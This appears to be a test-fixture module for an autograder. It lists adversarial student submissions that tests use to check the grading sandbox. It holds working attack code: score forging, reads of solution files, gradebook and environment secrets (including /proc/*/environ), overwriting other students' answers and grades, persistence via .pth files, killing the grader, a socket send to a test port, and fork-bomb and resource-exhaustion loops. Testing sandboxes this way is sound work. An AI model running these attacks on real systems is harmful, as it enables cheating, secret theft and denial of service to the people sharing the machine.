"""Submissions written by a student who wants marks they did not earn, or to hurt the class.

Each attack is code put in the student's own editable cell of ``traditional-divide``
(or a change to the submitted files), submitted with an answers file in which every
card is wrong: any point it earns is a point stolen. Where an attack manages to read
something it should not, it prints it, so the tests can look for what leaked in the
graded notebook. ``@MARKER@``, ``@CANARY@`` and ``@PORT@`` are filled in by the test
(a marker for processes, the canary file, a loopback port).
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import nbformat

ASSIGNMENT = "traditional-divide"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"

# Code attacks, by what they try. Each runs in the student's cell, before the tests.
CODE = {
    # The score, forged inside the kernel.
    "replace-scorer": """
import product_roles.grading as g
g.score_placements = lambda *a, **k: 16.0
g.judge = lambda *a, **k: None
""",
    "float-display": """
ip = get_ipython()
ip.display_formatter.formatters['text/plain'].for_type(float, lambda v, p, c: p.text('16.0'))
""",
    "no-last-expression": """
get_ipython().ast_node_interactivity = 'none'
""",
    "print-after-every-cell": """
def forge(result):
    print('16.0')
get_ipython().events.register('post_run_cell', forge)
""",
    "exit-before-tests": """
import os
os._exit(0)
""",
    # The key, read from the instructor's files, then copied into the answers file.
    "read-solutions": """
import glob, os
found = []
for start in ('..', '../..', '../../..', '../../../..', *ROOTS, os.path.expanduser('~')):
    found += glob.glob(os.path.join(start, '**', 'solutions', '**', '*.ipynb'), recursive=True)[:5]
for path in found:
    try:
        print('STOLEN', path, open(path).read())
    except OSError as err:
        print('refused', path, err.errno)
""",
    "read-gradebook": """
import glob, sqlite3
for path in [p for top in ROOTS for p in glob.glob(top + '/**/gradebook.db', recursive=True)][:3] + ['../../../gradebook.db']:
    try:
        rows = sqlite3.connect(path).execute('select source from source_cell').fetchall()
        print('STOLEN', path, rows[:2])
    except Exception as err:
        print('no gradebook at', path, type(err).__name__)
""",
    "read-canary": """
import glob, os
for path in ['@CANARY@', '../../../canary.txt'] + [p for top in ROOTS for p in glob.glob(top + '/**/canary.txt', recursive=True)][:3]:
    try:
        print('STOLEN', open(path).read())
    except OSError as err:
        print('refused', path, err.errno)
print('ENV', dict(os.environ))
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            print('ENVIRON', pid, open(f'/proc/{pid}/environ').read())
        except OSError:
            pass
""",
    # Changing what others get.
    "write-other-students": """
import glob, os
for path in [p for top in ROOTS for p in glob.glob(top + '/**/submitted/**/*.answers.json', recursive=True)] + glob.glob('../../*/*/*.json'):
    try:
        open(path, 'w').write('{"tampered": true}')
        print('WROTE', path)
    except OSError as err:
        print('refused', path, err.errno)
""",
    "write-gradebook": """
import glob, sqlite3
for path in [p for top in ROOTS for p in glob.glob(top + '/**/gradebook.db', recursive=True)] + ['../../../gradebook.db']:
    try:
        db = sqlite3.connect(path)
        db.execute('update grade set auto_score = 16')
        db.commit()
        print('WROTE', path)
    except Exception as err:
        print('refused', path, type(err).__name__)
""",
    "persist-in-venv": """
import os, site, sys, product_roles
targets = site.getsitepackages() + [os.path.dirname(product_roles.__file__)]
for folder in targets:
    try:
        open(os.path.join(folder, 'zz_steal.pth'), 'w').write('import os\\n')
        print('WROTE', folder)
    except OSError as err:
        print('refused', folder, err.errno)
try:
    open(product_roles.__file__, 'a').write('\\n# tampered\\n')
    print('WROTE package')
except OSError as err:
    print('refused package', err.errno)
""",
    "leave-a-file-for-the-next": """
import os
for folder in ('/tmp', '/dev/shm', os.path.expanduser('~')):
    try:
        open(os.path.join(folder, 'left-by-a-student'), 'w').write('hello')
    except OSError:
        pass
""",
    "find-a-file-left-behind": """
import os
for folder in ('/tmp', '/dev/shm', os.path.expanduser('~')):
    if os.path.exists(os.path.join(folder, 'left-by-a-student')):
        print('STOLEN left behind in', folder)
""",
    "reveal-the-key": """
import os
os.environ['PRODUCT_ROLES_REVEAL_KEY'] = '1'
""",
    # Outliving, stopping or signalling the grader and the class.
    "linger": """
import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)  # @MARKER@'],
                 start_new_session=True)
""",
    "double-fork-daemon": """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)  # @MARKER@'])
    os._exit(0)
time.sleep(0.2)
""",
    "kill-the-grader": """
import os, signal
for name in ('JPY_PARENT_PID',):
    if os.environ.get(name):
        try:
            os.kill(int(os.environ[name]), signal.SIGKILL)
        except OSError as err:
            print('refused', err.errno)
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as err:
        print('refused', pid, err.errno)
try:
    os.kill(-1, signal.SIGKILL)
except OSError as err:
    print('refused -1', err.errno)
""",
    "network": """
import socket
s = socket.socket()
s.settimeout(2)
try:
    s.connect(('127.0.0.1', @PORT@))
    s.sendall(b'STOLEN')
    print('CONNECTED')
except OSError as err:
    print('refused', err)
""",
    # Using up what the machine has.
    "memory": """
blocks = []
while True:
    blocks.append(bytearray(256 * 1024 * 1024))
""",
    "fork-bomb": """
import os
children = 0
try:
    while True:
        if os.fork() == 0:
            import time
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as err:
    print('stopped after', children, err)
""",
    "cpu-ignoring-interrupts": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
    "output-flood": """
line = 'x' * 1000
while True:
    print(line)
""",
    "fill-the-disk": """
import os
n = 0
try:
    while True:
        with open(f'big{n}', 'wb') as f:
            f.write(b'0' * 8 * 1024 * 1024)
        n += 1
except OSError as err:
    print('stopped after', n, err)
""",
}


# Where a course, a home or a temporary folder would be; searching all of /usr is slow.
_ROOTS = "ROOTS = ('/tmp', '/work', '/root', '/home', '/srv', '/var', '/opt', '/mnt')\n"
CODE = {name: _ROOTS + source for name, source in CODE.items()}


def all_wrong(key) -> dict[str, str]:
    """Placements with every card in a role its key does not accept."""
    roles = sorted({r for accepted in key.answers.values() for r in accepted})
    return {
        card: next(r for r in roles if r not in accepted) for card, accepted in key.answers.items()
    }


def code_attack(source: str):
    """An ``edit`` for :func:`product_roles.instructor.simulate.submit` putting ``source`` in the student's cell."""

    def edit(folder: Path) -> None:
        nb = nbformat.read(folder / NOTEBOOK, as_version=4)
        cell = next(c for c in nb.cells if c.metadata["nbgrader"].get("grade_id") == "place-cards")
        cell.source = source
        nbformat.write(nb, folder / NOTEBOOK)

    return edit


def _test_cell(nb):
    return next(c for c in nb.cells if c.metadata["nbgrader"].get("grade_id") == "test-card-roles")


def _edit_notebook(change):
    def edit(folder: Path) -> None:
        nb = nbformat.read(folder / NOTEBOOK, as_version=4)
        change(nb)
        nbformat.write(nb, folder / NOTEBOOK)

    return edit


def _forge_test_source(nb):
    _test_cell(nb).source = "16.0"


def _raise_points(nb):
    meta = _test_cell(nb).metadata["nbgrader"]
    meta["points"] = 100
    meta["locked"] = False


def _extra_grade_cell(nb):
    cell = nbformat.v4.new_code_cell("100.0")
    cell.metadata["nbgrader"] = {
        "grade": True, "grade_id": "bonus", "locked": True, "points": 100,
        "schema_version": 3, "solution": False, "task": False,
    }  # fmt: skip
    nb.cells.append(cell)


def _replace_test_cell(nb):
    cell = _test_cell(nb)
    cell.metadata["nbgrader"]["grade"] = False
    forged = nbformat.v4.new_code_cell("16.0")
    forged.metadata["nbgrader"] = dict(cell.metadata["nbgrader"], grade=True)
    nb.cells.append(forged)


def _link_answers_to(target: str):
    def edit(folder: Path) -> None:
        path = folder / f"{ASSIGNMENT}.answers.json"
        path.unlink(missing_ok=True)
        os.symlink(target, path)

    return edit


def _huge_answers(folder: Path) -> None:
    path = folder / f"{ASSIGNMENT}.answers.json"
    data = json.loads(path.read_text())
    data["padding"] = "x" * (4 * 1024 * 1024)
    path.write_text(json.dumps(data))


# Attacks on the submitted files themselves, by what they try.
FILES = {
    "forged-test-source": _edit_notebook(_forge_test_source),
    "raised-points": _edit_notebook(_raise_points),
    "extra-grade-cell": _edit_notebook(_extra_grade_cell),
    "duplicate-test-cell": _edit_notebook(_replace_test_cell),
    "huge-answers-file": _huge_answers,
}


def link_attacks(course: Path) -> dict:
    """Answers files that are links to the instructor's files."""
    solution = course / "solutions" / ASSIGNMENT / NOTEBOOK
    return {
        "answers-link-to-solution": _link_answers_to(str(solution)),
        "answers-link-to-canary": _link_answers_to(str(course / "canary.txt")),
    }
